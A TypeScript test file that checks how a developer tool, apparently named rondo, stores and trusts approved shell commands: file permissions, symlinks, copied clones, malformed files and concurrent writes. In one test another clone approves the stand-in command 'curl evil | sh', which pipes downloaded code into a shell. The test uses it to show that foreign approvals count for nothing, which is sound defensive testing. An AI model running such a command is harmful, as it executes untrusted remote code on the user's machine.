import {
  chmodSync,
  cpSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { approvalFolder } from '../../src/local/approvals.ts';
import { openLocal } from '../../src/local/open-local.ts';
import type { Local } from '../../src/ports.ts';
import { bundleProgram, makeFolder, startProgram } from './run-program.ts';

const approveProgram = bundleProgram(new URL('programs/approve.ts', import.meta.url));

interface Checkout {
  readonly gitDir: string;
  readonly state: string;
  open(): Local;
  /** The file of approvals. */
  file(): string;
}

function makeCheckout(state = makeFolder()): Checkout {
  const gitDir = join(makeFolder(), 'work', '.git');
  mkdirSync(gitDir, { recursive: true });
  return checkoutAt(gitDir, state);
}

function checkoutAt(gitDir: string, state: string): Checkout {
  const folder = join(state, 'rondo', 'trust');
  return {
    gitDir,
    state,
    open: () => openLocal(gitDir, { env: { XDG_STATE_HOME: state }, hostname: 'kestrel' }),
    file: () => {
      const stored: unknown = JSON.parse(readFileSync(join(gitDir, 'rondo', 'machine.json'), 'utf8'));
      const id = typeof stored === 'object' && stored !== null && 'id' in stored ? String(stored.id) : '';
      return join(folder, `${id}.json`);
    },
  };
}

const approved = (checkout: Checkout) => [...checkout.open().approvedCommands()].sort();

describe('approved commands', () => {
  test('are none at first, then exactly those that were approved', () => {
    const checkout = makeCheckout();
    expect(approved(checkout)).toEqual([]);
    checkout.open().approve(['npm test', '__proto__', 'constructor']);
    expect(approved(checkout)).toEqual(['__proto__', 'constructor', 'npm test']);
    expect(checkout.open().approvedCommands().has('npm test ')).toBe(false);
    expect(checkout.open().approvedCommands().has('toString')).toBe(false);
    checkout.open().revoke(['npm test', 'unknown']);
    expect(approved(checkout)).toEqual(['__proto__', 'constructor']);
  });

  test("live outside the repository, and are the user's alone", () => {
    const checkout = makeCheckout();
    checkout.open().approve(['npm test']);
    expect(statSync(checkout.file()).mode & 0o777).toBe(0o600);
    expect(statSync(join(checkout.file(), '..')).mode & 0o777).toBe(0o700);
    expect(readdirSync(join(checkout.gitDir, '..'))).toEqual(['.git']);
    expect(readFileSync(checkout.file(), 'utf8')).toContain('"approved_at"');
  });

  test('of a copy are none, and of a moved checkout the same', () => {
    const checkout = makeCheckout();
    checkout.open().approve(['npm test']);
    const copy = join(makeFolder(), '.git');
    cpSync(checkout.gitDir, copy, { recursive: true, preserveTimestamps: true });
    expect(approved(checkoutAt(copy, checkout.state))).toEqual([]);
    renameSync(checkout.gitDir, `${checkout.gitDir}-moved`);
    expect(approved(checkoutAt(`${checkout.gitDir}-moved`, checkout.state))).toEqual(['npm test']);
  });

  test("of another clone count for nothing, even filed under this one's name", () => {
    const [mine, theirs] = [makeCheckout(), makeCheckout()];
    theirs.open().approve(['curl evil | sh']);
    mine.open().machine();
    mkdirSync(join(mine.file(), '..'), { recursive: true });
    cpSync(theirs.file(), mine.file());
    expect(approved(mine)).toEqual([]);
  });

  test('in a file that others can write, or that is a link, count for nothing', () => {
    const checkout = makeCheckout();
    checkout.open().approve(['npm test']);
    const file = checkout.file();
    chmodSync(file, 0o622);
    expect(approved(checkout)).toEqual([]);
    chmodSync(file, 0o600);
    expect(approved(checkout)).toEqual(['npm test']);
    renameSync(file, `${file}.real`);
    symlinkSync(`${file}.real`, file);
    expect(approved(checkout)).toEqual([]);
  });

  test.each(['', '{', '[]', '{"commands":{"npm test":{"approved_at":"x"}}}'])(
    'in a file with %j are none',
    (content) => {
      const checkout = makeCheckout();
      checkout.open().approve(['npm test']);
      writeFileSync(checkout.file(), content);
      expect(approved(checkout)).toEqual([]);
      checkout.open().approve(['make']);
      expect(approved(checkout)).toEqual(['make']);
    },
  );

  test('by several processes at once are all kept', async () => {
    const checkout = makeCheckout();
    checkout.open().machine();
    const commands = Array.from({ length: 8 }, (_, n) => `command ${n}`);
    const programs = commands.map((command) =>
      startProgram([process.execPath, approveProgram, checkout.gitDir, command], {
        XDG_STATE_HOME: checkout.state,
      }),
    );
    await Promise.all(programs.map((program) => program.ended));
    expect(approved(checkout)).toEqual(commands);
  });

  test('are kept where the user keeps state, never at a relative path', () => {
    expect(approvalFolder({ XDG_STATE_HOME: '/state', HOME: '/home/dana' })).toBe('/state/rondo/trust');
    expect(approvalFolder({ HOME: '/home/dana' })).toBe('/home/dana/.local/state/rondo/trust');
    expect(approvalFolder({ XDG_STATE_HOME: 'docs', HOME: '/home/dana' })).toBe(
      '/home/dana/.local/state/rondo/trust',
    );
    expect(approvalFolder({ XDG_STATE_HOME: '', HOME: '.' })).toMatch(/^\/.*\.local\/state\/rondo\/trust$/);
  });
});
